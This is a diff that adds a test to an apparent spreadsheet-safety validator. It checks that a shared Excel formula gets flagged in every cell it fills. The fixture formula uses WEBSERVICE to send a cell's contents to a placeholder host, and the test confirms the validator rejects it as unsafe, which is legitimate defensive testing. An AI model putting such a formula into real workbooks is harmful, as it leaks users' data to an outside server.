@@ -88,6 +88,22 @@ def test_every_text_cell_is_judged_and_its_stored_value_read(ctx, tmp_path, cata
     assert {i.code for i in out.issues if i.severity == "error"} == {"E_FORMULA_UNSAFE"}
 
 
+def test_a_shared_formula_is_judged_in_every_cell_it_fills(ctx, tmp_path, catalog):
+    """Excel writes a formula filled down once, at its first cell; the cells after hold only its id."""
+
+    def change(parts: dict[str, bytes]) -> None:
+        part = sheet_part(parts, DATA)
+        first = '_xlfn.WEBSERVICE("http://vi-du.invalid/?q="&amp;B5)'
+        parts[part] = set_cell_xml(
+            parts[part], "F5", f'<c r="F5" t="str"><f t="shared" ref="F5:F8" si="0">{first}</f><v>a</v></c>'
+        )
+        parts[part] = set_cell_xml(parts[part], "F8", '<c r="F8" t="str"><f t="shared" si="0"/><v>b</v></c>')
+
+    zip_edit(ctx, tmp_path / "chia-se.xlsx", change)
+    out = validate_file(tmp_path / "chia-se.xlsx", catalog, 2024)
+    assert sorted(i.cell for i in out.issues if i.code == "E_FORMULA_UNSAFE") == ["F5", "F8"]
+
+
 def test_annotated_copy_holds_no_formula_of_the_agency(ctx, tmp_path, catalog):
     from openpyxl import load_workbook
     from openpyxl.formatting.rule import FormulaRule
